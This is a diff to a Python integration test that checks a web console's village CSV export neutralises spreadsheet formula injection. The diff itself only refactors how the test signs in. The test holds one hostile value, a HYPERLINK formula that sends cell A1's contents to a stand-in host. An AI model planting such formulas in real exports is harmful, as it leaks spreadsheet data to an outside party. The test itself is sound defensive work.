@@ -11,7 +11,7 @@ import pytest
 from bot.web.console.cells import safe_cell
 from storage.db import Database
 from storage.models import Area, Child, Person
-from tests.integration.console.support import console, signed_in
+from tests.integration.console.support import console
 
 NOW = datetime(2026, 3, 2, 2, 0, tzinfo=UTC)
 EVIL = '=HYPERLINK("http://x.example/?"&A1,"点我")'
@@ -53,9 +53,7 @@ async def test_a_village_named_like_a_formula_is_text_in_the_csv(db: Database) -
         )  # fmt: skip
     async with console(db) as c:
         c.clock.set(NOW)
-        await c.add_user("root", "admin")
-        async with c.client() as client:
-            await signed_in(client, "root")
+        async with c.signed_in_as("root", "admin") as (client, _):
             exported = (await client.get("/console/reports/villages.csv")).text
     rows = list(csv.DictReader(io.StringIO(exported.lstrip("\ufeff"))))
     assert [r["village"] for r in rows] == ["'" + EVIL]
